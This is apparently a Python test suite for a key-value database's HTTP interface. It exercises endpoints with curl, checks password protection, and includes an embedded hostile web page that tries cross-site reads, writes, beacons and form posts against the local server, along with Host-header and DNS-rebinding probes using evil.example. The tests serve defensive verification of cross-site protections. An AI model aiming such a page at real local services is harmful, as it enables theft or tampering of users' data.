"""curl and a browser on the HTTP port: what they can do, and what another site's page cannot."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import socket
import subprocess
import tempfile
import threading
import unittest
from collections.abc import Iterator
from pathlib import Path

from tests.interop.page_browser import BROWSER
from tests.interop.page_cases import PageCases, WritablePageCases
from tests.interop.servers import ROOT, running_kvdb

__all__ = ["PageCases", "WritablePageCases"]

EVERY_BYTE = bytes(range(256))


def _free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        return int(probe.getsockname()[1])


def _address_beyond_loopback() -> str | None:
    """Return an address of this machine that is not loopback, if it has one. Sends nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return None
        address = str(probe.getsockname()[0])
        return None if address.startswith("127.") else address


class _WithServer(unittest.TestCase):
    more_flags: tuple[str, ...] = ()

    def setUp(self) -> None:
        self.port = _free_port()
        flags = ("--in-memory", "--http-port", str(self.port), *self.more_flags)
        self.address = self.enterContext(running_kvdb(*flags))
        self.base = f"localhost:{self.port}"
        self.folder = Path(self.enterContext(tempfile.TemporaryDirectory(prefix="kvdb-http-")))

    def curl(self, *arguments: str, expected: int = 200) -> bytes:
        """Run curl; return the body, once the status is what was expected."""
        body = self.folder / "body"
        body.write_bytes(b"")
        done = subprocess.run(
            ["curl", "-sS", "--max-time", "20", "-o", str(body), "-w", "%{http_code}", *arguments],
            capture_output=True,
            timeout=30,
        )
        self.assertEqual((done.stderr, done.stdout.decode()), (b"", str(expected)), arguments)
        return body.read_bytes()

    def keys(self) -> set[str]:
        """Return the names of all keys, as the main port has them."""
        with self.address.connect() as connection:
            connection.sendall(b'{"command": "KEYS", "args": ["*"]}\nQUIT\n')
            with connection.makefile("rb") as lines:
                return set(json.loads(lines.readline())["result"])


class Curl(_WithServer):
    def test_the_examples_of_the_page_do_what_they_say(self) -> None:
        text = (ROOT / "kvdb" / "protocols" / "README.md").read_text(encoding="utf-8")
        blocks = re.findall(r"^```\w*\n(.*?)^```", text, re.DOTALL | re.MULTILINE)
        (block,) = (found for found in blocks if "/set?" in found)
        (self.folder / "photo.jpg").write_bytes(EVERY_BYTE)
        for name in ("user:1", "user:2", "other"):
            self.curl(f"{self.base}/set?{name}=x")
        answers = []
        for line in block.splitlines():
            example = line.partition("#")[0].strip().replace("localhost:8000", self.base)
            self.assertTrue(example.startswith("curl "), line)
            done = subprocess.run(
                example.replace("curl ", "curl -sS -f --max-time 20 ", 1),
                shell=True,
                cwd=self.folder,
                capture_output=True,
                timeout=30,
            )
            self.assertEqual((done.returncode, done.stderr), (0, b""), line)
            answers.append(done.stdout)
        _, somevalue, _, photo, patched, listed, metrics, health = answers
        self.assertEqual((somevalue, photo, patched), (b"somevalue", EVERY_BYTE, b""))
        found = json.loads(listed)
        self.assertEqual((set(found["keys"]), found["cursor"]), ({"user:1", "user:2"}, "0"))
        self.assertIn(b"\nredis_keyspace_hits_total 2\n", metrics)
        self.assertEqual(json.loads(health)["status"], "ok")

    def test_the_earlier_systems_status_codes(self) -> None:
        for target, status, body in (
            ("/set?somekey=somevalue", 200, b""),
            ("/get?key=somekey", 200, b"somevalue"),
            ("/get?key=missing", 404, b""),
            ("/malformed", 500, b""),
            ("/set?a=1&b=2", 500, b""),
            ("/get?other=x", 500, b""),
            ("/set?café=crème", 200, b""),
            ("/get?key=caf%C3%A9", 200, "crème".encode()),
        ):
            with self.subTest(target):
                self.assertEqual(self.curl(self.base + target, expected=status), body)

    def test_a_large_body_waits_for_100_continue_and_arrives(self) -> None:
        large = EVERY_BYTE * 4 * 1024 * 8  # 8 MiB: curl asks before it sends so much
        (self.folder / "large").write_bytes(large)
        upload = ("-X", "PUT", "--data-binary", f"@{self.folder / 'large'}")
        shown = subprocess.run(
            ["curl", "-v", "--expect100-timeout", "60", *upload, f"{self.base}/keys/large"],
            capture_output=True,
            timeout=30,
        )
        self.assertIn(b"< HTTP/1.1 100 Continue", shown.stderr)
        self.assertEqual(self.curl(f"{self.base}/keys/large"), large)

    def test_one_connection_serves_many_requests(self) -> None:
        targets = [f"{self.base}/set?k{number}=v" for number in range(20)]
        shown = subprocess.run(
            ["curl", "-sv", *targets], capture_output=True, timeout=30
        ).stderr.decode()
        self.assertEqual(shown.count("< HTTP/1.1 200 OK"), 20)
        self.assertEqual(shown.lower().count("re-using existing"), 19)

    def test_head_delete_options_and_refusals_are_understood(self) -> None:
        self.curl("-X", "PUT", "-d", "v", f"{self.base}/keys/k?ttl=60", expected=201)
        self.curl("--head", f"{self.base}/keys/k")
        self.curl("-X", "OPTIONS", f"{self.base}/keys/k", expected=204)
        self.curl("-X", "DELETE", f"{self.base}/keys/k", expected=204)
        self.curl("--head", f"{self.base}/keys/k", expected=404)
        self.curl("-X", "BREW", f"{self.base}/keys/k", expected=501)
        self.curl("-d", "v", f"{self.base}/keys/k", expected=405)
        self.curl("-H", "Host: evil.example", f"{self.base}/set?evil=1", expected=403)
        self.curl(
            "-T", "-", "-H", "Transfer-Encoding: chunked", f"{self.base}/keys/up", expected=201
        )
        self.curl("-X", "DELETE", f"{self.base}/keys/up", expected=204)
        self.assertEqual(self.keys(), set())


class CurlWithPassword(unittest.TestCase):
    def test_the_password_is_basic_authentication(self) -> None:
        port = _free_port()
        flags = ("--in-memory", "--http-port", str(port))
        with running_kvdb(*flags, password="secret"):
            for arguments, status in (
                (("-u", "any:secret"), "200"),
                (("-u", "any:wrong"), "401"),
                ((), "401"),
            ):
                done = subprocess.run(
                    ["curl", "-s", *arguments, "-w", "\n%{http_code}", f"localhost:{port}/keys"],
                    capture_output=True,
                    timeout=30,
                )
                self.assertEqual(done.stdout.decode().splitlines()[-1], status)


@contextlib.contextmanager
def other_site(
    page: str, host: str = "127.0.0.1"
) -> Iterator[tuple[str, list[str], threading.Event]]:
    """Serve a page; give its address, the reports that it sent, and an event: it is through."""
    reports: list[str] = []
    through = threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/report?"):
                reports.append(self.path.removeprefix("/report?"))
                if reports[-1] == "through":
                    through.set()
            body = page.encode() if self.path == "/" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with http.server.ThreadingHTTPServer((host, 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield f"http://{host}:{server.server_port}/", reports, through
        finally:
            server.shutdown()
            thread.join()


ATTACK = """<!doctype html><title>another site</title><body>
<iframe name="sink"></iframe>
<script>
const target = "http://TARGET";
const report = text => fetch("/report?" + encodeURIComponent(text));
const loads = (tag, attribute, path, parent) => new Promise(done => {
  const element = document.createElement(tag);
  element.onload = () => done(tag + " loaded " + path);
  element.onerror = () => done("");
  element[attribute] = target + path;
  if (tag === "link") element.rel = "stylesheet";
  document.body.append(element);
});
const reads = (path, options) => fetch(target + path, options)
  .then(answer => answer.text())
  .then(text => text ? "fetch read " + path + ": " + text : "", () => "");
const posts = (method, path, encoding) => new Promise(done => {
  const form = document.createElement("form");
  form.method = method;
  form.action = target + path;
  form.enctype = encoding;
  form.target = "sink";
  const field = document.createElement("input");
  field.name = method === "get" ? "by-form-get" : "x";
  field.value = "1";
  form.append(field);
  document.body.append(form);
  document.querySelector("iframe").onload = () => done("");
  form.submit();
});
(async () => {
  const json = {method: "POST", mode: "no-cors", body: "SET by-text 1\\r\\n"};
  const found = await Promise.all([
    reads("/get?key=secret"),
    reads("/get?key=secret", {mode: "no-cors"}),
    reads("/get?key=secret", {credentials: "include"}),
    reads("/keys/secret"),
    reads("/keys"),
    reads("/"),
    reads("/metrics"),
    reads("/api/stats"),
    reads("/api/keys"),
    reads("/api/value?key=secret"),
    reads("/api/value?key=secret", {mode: "no-cors"}),
    reads("/healthz"),
    reads("/set?by-fetch=1"),
    reads("/set?by-no-cors=1", {mode: "no-cors", referrerPolicy: "no-referrer"}),
    reads("/keys/by-put", {method: "PUT", body: "1"}),
    reads("/keys/by-post", json),
    reads("/keys/secret", {method: "DELETE"}),
    loads("img", "src", "/set?by-image=1"),
    loads("script", "src", "/set?by-script=1"),
    loads("script", "src", "/get?key=script"),
    loads("link", "href", "/set?by-style=1"),
    loads("link", "href", "/static/style.css"),
    loads("script", "src", "/static/main.js"),
    loads("script", "src", "/api/stats"),
    loads("iframe", "src", "/set?by-frame=1").then(() => ""),
  ]);
  navigator.sendBeacon(target + "/set?by-beacon=1", "x");
  await posts("get", "/set", "application/x-www-form-urlencoded");
  await posts("post", "/set?by-form-post=1", "text/plain");
  await posts("post", "/keys/by-form-key", "multipart/form-data");
  for (const text of found) if (text) await report(text);
  await report("through");
})();
</script>"""


class _WithBrowser(_WithServer):
    def browse(self, *arguments: str, host_rules: str = "") -> str:
        """Run the browser to its end; return what it printed."""
        with tempfile.TemporaryDirectory(prefix="kvdb-browser-") as profile:
            rules = (f"--host-resolver-rules={host_rules}",) if host_rules else ()
            done = subprocess.run(
                [*BROWSER, f"--user-data-dir={profile}", *rules, *arguments],
                capture_output=True,
                timeout=60,
            )
        self.assertEqual(done.returncode, 0, done.stderr.decode(errors="replace")[-3000:])
        return done.stdout.decode()

    @contextlib.contextmanager
    def browsing(self, url: str) -> Iterator[None]:
        """Have the browser open, at this address, within the block."""
        with tempfile.TemporaryDirectory(
            prefix="kvdb-browser-", ignore_cleanup_errors=True
        ) as profile:
            process = subprocess.Popen(
                [*BROWSER, f"--user-data-dir={profile}", "--remote-debugging-port=0", url],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            try:
                yield
            finally:
                process.terminate()
                process.wait(30)

    def requests(self) -> int:
        """How many have been answered so far, or refused."""
        metrics = self.curl(f"{self.base}/metrics").decode()
        counted = r"^redis_(?:commands_processed_total|errors_total\{.*\}) (\d+)$"
        return sum(map(int, re.findall(counted, metrics, re.M)))

    def attack(self, host: str) -> None:
        """Have a page of another site try everything against us, under this name of ours."""
        self.curl(f"{self.base}/set?secret=hidden")
        self.curl(f"{self.base}/set?script=1")
        before = self.requests()
        page = ATTACK.replace("TARGET", f"{host}:{self.port}")
        with other_site(page) as (url, reports, through):
            with self.browsing(url):
                self.assertTrue(through.wait(60), "the page has not come to its end")
            self.assertEqual(reports, ["through"])
        self.assertGreater(self.requests() - before, 15)  # it has really tried
        self.assertEqual(self.keys(), {"secret", "script"})
        self.assertEqual(self.curl(f"{self.base}/get?key=secret"), b"hidden")


class Browser(_WithBrowser):
    def test_a_screenshot_shows_the_page_with_its_style(self) -> None:
        self.curl(f"{self.base}/set?k=v")
        picture = self.folder / "page.png"
        self.browse(f"--screenshot={picture}", f"http://{self.base}/")
        self.assertTrue(picture.read_bytes().startswith(b"\x89PNG\r\n"))
        # The page asked for its stylesheet and was given it: one request more than the page.
        self.assertGreaterEqual(self.requests(), 3)

    def test_another_sites_page_can_neither_read_nor_write(self) -> None:
        for host in ("localhost", "127.0.0.1"):
            with self.subTest(host):
                self.attack(host)

    def test_a_foreign_name_that_leads_here_is_refused(self) -> None:
        """DNS rebinding: the other site's name is made to point at us."""
        self.curl(f"{self.base}/set?secret=hidden")
        rules = "MAP evil.example 127.0.0.1"
        for path in ("/", "/get?key=secret", "/set?evil=1"):
            url = f"http://evil.example:{self.port}{path}"
            dom = self.browse("--dump-dom", url, host_rules=rules)
            self.assertIn("this is not evil.example", dom)
            self.assertNotRegex(dom, "secret|hidden")
        self.assertEqual(self.keys(), {"secret"})


class BrowserBeyondLoopback(_WithBrowser):
    """By an address to which browsers do not say which site has sent a request."""

    more_flags = ("--host", "0.0.0.0", "--no-protection")

    def test_another_sites_page_can_neither_read_nor_write(self) -> None:
        host = _address_beyond_loopback()
        if host is None:
            self.skipTest("this machine has no address beyond loopback")
        self.attack(host)


if __name__ == "__main__":
    unittest.main()
